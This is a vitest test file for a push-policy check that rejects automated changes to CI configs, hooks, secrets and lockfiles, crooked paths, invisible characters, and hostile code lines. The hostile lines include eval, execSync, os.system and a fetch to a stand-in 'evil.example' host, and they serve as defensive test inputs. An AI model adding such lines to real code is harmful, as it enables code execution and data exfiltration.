import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Change } from './change.ts'
import { objections } from './push-policy.ts'

const changed = (path: string, before: string | null = 'a\n', after: string | null = 'b\n'): Change => ({
  path,
  before,
  after,
})
const line = (text: string) => changed('src/a.js', 'one\n', `one\n${text}\n`)
const manifest = (value: object) => `${JSON.stringify(value, null, 2)}\n`

const NEVER = [
  '.github/workflows/ci.yml',
  '.GitHub/workflows/ci.yml',
  'packages/a/.github/x',
  '.github/CODEOWNERS',
  'docs/CODEOWNERS',
  '.gitlab-ci.yml',
  '.circleci/config.yml',
  '.travis.yml',
  'Jenkinsfile',
  'azure-pipelines.yml',
  '.buildkite/pipeline.yml',
  '.ci/run',
  '.husky/pre-commit',
  '.githooks/pre-push',
  'hooks/pre-receive',
  '.git/config',
  '.gitmodules',
  '.gitattributes',
  '.npmrc',
  '.env',
  '.env.production',
]
const BY_PEOPLE = [
  'package-lock.json',
  'web/yarn.lock',
  'pnpm-lock.yaml',
  'go.sum',
  'Cargo.lock',
  'poetry.lock',
  'requirements-dev.txt',
  'Gemfile.lock',
  'Dockerfile',
  'web/Dockerfile.prod',
  'api.dockerfile',
  'docker-compose.yml',
  'Makefile',
  'rules.mk',
  'scripts/deploy.sh',
  'scripts/run.ps1',
  'native/addon.node',
  'certs/key.pem',
  'infra/main.tf',
]
const CROOKED = [
  '/etc/passwd',
  '../outside.js',
  'a/../../b.js',
  'a//b.js',
  './a.js',
  'a\\b.js',
  'C:x.js',
  'a/.',
  'a\n.js',
  'src/\u202ea.js',
  'src/a.js ',
  'a./b.js',
  '',
]
const HOSTILE_LINES = [
  'eval(input)',
  'new Function(body)()',
  "import { exec } from 'node:child_process'",
  'execSync(command)',
  'spawn (shell)',
  "fetch('https://evil.example/x')",
  "connect('tcp://10.0.0.1')",
  "const host = '203.0.113.7'",
  `const blob = '${'A'.repeat(80)}'`,
  'os.system("id")',
  'process.env.NODE_TLS_REJECT_UNAUTHORIZED = 0',
]

describe('src/code-host/push-policy.ts', () => {
  it('lets an ordinary small change pass', () => {
    const source = 'export function total(cart) {\n  return cart.rate.value\n}\n'
    const mended = source.replace('cart.rate.value', 'cart.rate?.value ?? 0')
    expect(objections([changed('src/total.js', source, mended)], false)).toEqual([])
    expect(objections([changed('src/hooks/use-cart.ts'), changed('src/new.js', null)], false)).toEqual([])
  })

  it.each(NEVER)('never touches %s, not even to revert', (path) => {
    expect(objections([changed(path)], false)).not.toEqual([])
    expect(objections([changed(path)], true)).not.toEqual([])
  })

  it.each(BY_PEOPLE)('leaves %s to people, unless it goes back to what was reviewed', (path) => {
    expect(objections([changed(path)], false)).not.toEqual([])
    expect(objections([changed(path)], true)).toEqual([])
  })

  it.each(CROOKED)('refuses the path %j', (path) => {
    expect(objections([changed(path)], true)).not.toEqual([])
  })

  it.each(HOSTILE_LINES)('refuses to add %s, and lets it stand where it stood', (text) => {
    expect(objections([line(text)], false)).not.toEqual([])
    expect(objections([changed('src/a.js', `${text}\nx = 1\n`, `if (y) {\n  ${text}\n}\n`)], false)).toEqual([])
    expect(objections([line(text)], true)).toEqual([])
  })

  it('refuses scripts and packages in package.json and lets its other words change', () => {
    const before = manifest({ name: 'a', version: '1.0.0', scripts: { test: 'node --test' } })
    const edits = (after: string) => objections([changed('web/package.json', before, after)], false)
    expect(
      edits(manifest({ name: 'a', version: '1.0.0', scripts: { test: 'node --test', postinstall: 'x' } })),
    ).not.toEqual([])
    expect(edits(manifest({ name: 'a', scripts: { test: 'node --test' }, dependencies: { evil: '1' } }))).not.toEqual(
      [],
    )
    expect(edits('{ not json')).not.toEqual([])
    expect(edits('[]')).not.toEqual([])
    expect(edits(manifest({ name: 'a', version: '1.0.1', scripts: { test: 'node --test' } }))).toEqual([])
  })

  it('refuses more than five files or two hundred lines, and allows a revert more', () => {
    const files = (count: number) => Array.from({ length: count }, (_, n) => changed(`src/f${n}.js`))
    expect(objections(files(5), false)).toEqual([])
    expect(objections(files(6), false)).not.toEqual([])
    expect(objections(files(20), true)).toEqual([])
    expect(objections(files(21), true)).not.toEqual([])
    const long = (lines: number) => [changed('src/a.js', null, 'x\n'.repeat(lines))]
    expect(objections(long(200), false)).toEqual([])
    expect(objections(long(201), false)).not.toEqual([])
    expect(objections(long(2_000), true)).toEqual([])
    expect(objections(long(2_001), true)).not.toEqual([])
  })

  it('refuses characters that cannot be seen, binary content and deletions', () => {
    for (const sign of ['\u202e', '\u2066', '\u200b', '\u200d', '\ufeff', '\u00ad', '\u{e0041}']) {
      expect(objections([line(`const isAdmin${sign} = false`)], true)).not.toEqual([])
    }
    expect(objections([line('a\u0000b')], true)).not.toEqual([])
    expect(objections([line('\ufffd')], true)).not.toEqual([])
    expect(objections([changed('src/a.js', 'a\n', null)], false)).not.toEqual([])
    expect(objections([changed('src/a.js', 'a\n', null)], true)).toEqual([])
  })

  it('finds one bad file among good ones, wherever it stands', () => {
    const bad = fc.oneof(
      fc.constantFrom(...NEVER, ...BY_PEOPLE, ...CROOKED).map((path) => changed(path)),
      fc.constantFrom(...HOSTILE_LINES).map(line),
    )
    const good = fc.integer({ min: 0, max: 99 }).map((n) => changed(`lib/f${n}.js`))
    fc.assert(
      fc.property(bad, fc.array(good, { maxLength: 4 }), fc.nat(4), (one, others, at) => {
        const mixed = [...others.slice(0, at), one, ...others.slice(at)]
        expect(objections(mixed, false).length).toBeGreaterThan(0)
      }),
      { numRuns: 2_000 },
    )
  })
})
